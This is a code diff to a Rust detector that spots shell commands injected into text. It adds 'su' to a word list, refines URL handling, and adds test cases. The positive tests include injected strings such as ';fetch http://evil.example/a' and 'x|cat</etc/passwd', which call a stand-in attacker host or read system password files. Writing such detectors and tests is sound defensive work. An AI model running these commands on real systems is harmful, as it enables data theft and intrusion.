@@ -4,7 +4,7 @@ mod arguments;
 mod names;
 
 use crate::{head::table, names::Names};
-use arguments::{argument, names_file, names_host, powershell_argument, strong_argument, windows_argument};
+use arguments::{argument, names_file, names_host, powershell_argument, strong_argument, url, windows_argument};
 use names::{ALIASES, RARE, REMOTE, SPOKEN, WINDOWS, WORDS};
 
 /// What kind of command was found.
@@ -123,7 +123,7 @@ static WRAPPERS: Names = Names::new(&[
 ]);
 /// Words that alone behind a separator are a command.
 static ALONE: Names =
-    Names::new(&[b"df", b"dir", b"env", b"hostname", b"id", b"ls", b"ps", b"set", b"uname", b"ver", b"w"]);
+    Names::new(&[b"df", b"dir", b"env", b"hostname", b"id", b"ls", b"ps", b"set", b"su", b"uname", b"ver"]);
 
 /// Whether a command begins here.
 fn begin(text: &[u8], before: Before) -> Option<Kind> {
@@ -210,13 +210,15 @@ fn named(name: &[u8], after: &[u8], before: Before) -> Option<Kind> {
     let is = |list: &Names| list.contains(name) || base.len() < name.len() && list.contains(base);
     let next = after.trim_ascii_start().first().copied();
     let alone = || next.is_none_or(|byte| b";|&`')\"#".contains(&byte)) && ALONE.contains(name);
+    let spoken = || SPOKEN.contains(name);
     let kind = if before == Before::Nothing { Kind::Whole } else { Kind::Behind };
     let found = match before {
         Before::Nothing => argument(after, true, true) && is(&RARE) || strong_argument(after) && is(&WORDS),
         Before::Separator => {
             is(&RARE)
+                || name == b"su" && next == Some(b'-')
                 || name == b"sleep" && next.is_some_and(|byte| byte.is_ascii_digit())
-                || (argument(after, false, SPOKEN.contains(name)) || alone()) && is(&WORDS)
+                || (argument(after, false, spoken()) && !(url(after) && spoken()) || alone()) && is(&WORDS)
         }
         Before::Substitution => is(&RARE) || is(&WORDS),
     };
@@ -241,6 +243,9 @@ mod tests {
             ("/usr/bin/wget -O x", Kind::Whole),
             ("nohup ifconfig", Kind::Behind),
             (";curl evil.example/a x", Kind::Behind),
+            (";sed s/a/b/ /etc/passwd", Kind::Behind),
+            (";fetch http://evil.example/a", Kind::Behind),
+            ("x|cat</etc/passwd", Kind::Behind),
             ("[`wget -qo- x.example`", Kind::Behind),
             ("`id`   ", Kind::Behind),
             ("x `wget -qo- x.example` y", Kind::Cited),
@@ -271,6 +276,12 @@ mod tests {
             "see [`syn::type`], [`time` crate] (`mount` and others), (`build::env` of `cc`)",
             "`find` a match",
             "try `wget -c file.html` again",
+            "python -snake",
+            "dolor sit amet; sed do eiusmod",
+            "terms & done.</p>",
+            "x\n    at https://www.example.com/app.js:1:2345",
+            "fish soup -meat",
+            "x\n    at process.next (node:internal/task:95:5)",
         ] {
             assert_eq!(command(text.to_lowercase().as_bytes(), true), None, "{text}");
         }
